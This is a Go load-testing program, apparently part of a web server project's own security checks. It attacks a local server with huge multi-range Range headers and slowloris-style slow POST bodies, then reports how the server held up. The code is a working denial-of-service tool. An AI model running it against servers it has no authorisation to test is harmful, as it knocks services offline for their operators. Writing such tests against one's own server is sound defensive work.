// Command attack loads an aceo serve from one address the way the
// security probe did, for scripts/load.sh: clients asking for a download
// with a Range header of 50,000 ranges, and connections that send a
// request body (100 KB announced, which the server reads after answering)
// a byte every five seconds, each opened again a second after the server
// closes it. It prints what the server let
// them have.
package main

import (
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:18080", "the server")
	from := flag.String("from", "127.0.0.2", "local address the attack comes from")
	ranges := flag.Int("ranges", 4, "multi-range clients")
	slow := flag.Int("slow", 500, "slow-body connections")
	file := flag.String("file", "/files/aceo-sample/2013/aceo-sample-zh.pdf", "file the range clients ask for")
	dur := flag.Duration("for", 20*time.Second, "how long")
	items := flag.Int("items", 50000, "items of each Range header (-1 each: the last byte)")
	flag.Parse()

	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(*from)}, Timeout: 5 * time.Second}
	client := &http.Client{Transport: &http.Transport{DialContext: dialer.DialContext, MaxIdleConnsPerHost: *ranges}}
	end := time.Now().Add(*dur)
	header := "bytes=" + strings.TrimSuffix(strings.Repeat("-1,", *items), ",")

	var wg sync.WaitGroup
	var rangeReqs, rangeBytes, rangeRefused atomic.Int64
	for i := 0; i < *ranges; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) {
				req, _ := http.NewRequest(http.MethodGet, "http://"+*addr+*file, nil)
				req.Header.Set("Range", header)
				resp, err := client.Do(req)
				if err != nil {
					rangeRefused.Add(1)
					time.Sleep(50 * time.Millisecond)
					continue
				}
				n, _ := io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if resp.StatusCode >= 400 {
					rangeRefused.Add(1)
				}
				rangeReqs.Add(1)
				rangeBytes.Add(n)
			}
		}()
	}

	var opened, refused, open, maxOpen atomic.Int64
	var mu sync.Mutex
	var held []time.Duration
	for i := 0; i < *slow; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) {
				c, err := dialer.Dial("tcp", *addr)
				if err != nil {
					refused.Add(1)
					time.Sleep(200 * time.Millisecond)
					continue
				}
				start := time.Now()
				opened.Add(1)
				n := open.Add(1)
				for m := maxOpen.Load(); n > m && !maxOpen.CompareAndSwap(m, n); m = maxOpen.Load() {
				}
				_, err = fmt.Fprintf(c, "POST /en/ HTTP/1.1\r\nHost: %s\r\nContent-Type: application/octet-stream\r\nContent-Length: 100000\r\n\r\n", *addr)
				// a byte every five seconds, until the server hangs up
				for err == nil && time.Now().Before(end) {
					c.SetReadDeadline(time.Now().Add(5 * time.Second))
					var buf [4096]byte
					if _, rerr := c.Read(buf[:]); rerr != nil && !os.IsTimeout(rerr) {
						break // closed by the server (an answer alone does not end it)
					}
					_, err = c.Write([]byte("x"))
				}
				c.Close()
				open.Add(-1)
				if time.Now().Before(end) {
					mu.Lock()
					held = append(held, time.Since(start))
					mu.Unlock()
					time.Sleep(time.Second) // then try again
				}
			}
		}()
	}
	wg.Wait()
	sort.Slice(held, func(i, j int) bool { return held[i] < held[j] })
	median := time.Duration(0)
	if later := held[sort.Search(len(held), func(i int) bool { return held[i] >= time.Second }):]; len(later) > 0 {
		median = later[len(later)/2]
	}
	fmt.Printf("multi-range clients (%d items a header): %d requests, %.0f bytes each on average, %d refused\n",
		*items, rangeReqs.Load(), float64(rangeBytes.Load())/float64(max(rangeReqs.Load(), 1)), rangeRefused.Load())
	quick := sort.Search(len(held), func(i int) bool { return held[i] >= time.Second })
	fmt.Printf("slow-body connections: %d opened, at most %d open at once, %d refused at connect; the server closed %d at once (under 1 s) and %d later, after %v (median of those)\n",
		opened.Load(), maxOpen.Load(), refused.Load(), quick, len(held)-quick, median.Round(100*time.Millisecond))
}
